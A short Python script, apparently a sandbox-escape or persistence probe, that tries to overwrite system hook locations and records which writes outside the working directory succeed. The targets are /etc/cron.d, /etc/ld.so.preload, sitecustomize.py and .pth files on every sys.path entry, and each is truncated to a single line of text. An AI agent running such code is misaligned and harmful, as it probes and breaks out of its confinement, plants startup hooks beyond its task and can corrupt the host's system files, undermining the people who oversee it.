import os
import sys

places = ["/usr/lib/python3/x.py", "/etc/cron.d/osprey", "/etc/ld.so.preload", os.path.join(sys.prefix, "sitecustomize.py")]
places += [os.path.join(p, "zz_osprey.pth") for p in sys.path if p]
written = []
for place in places:
    try:
        with open(place, "w") as file:
            file.write("import os\n")
        if not place.startswith(os.getcwd()):
            written.append(place)
    except OSError:
        pass
results = {"written": written}
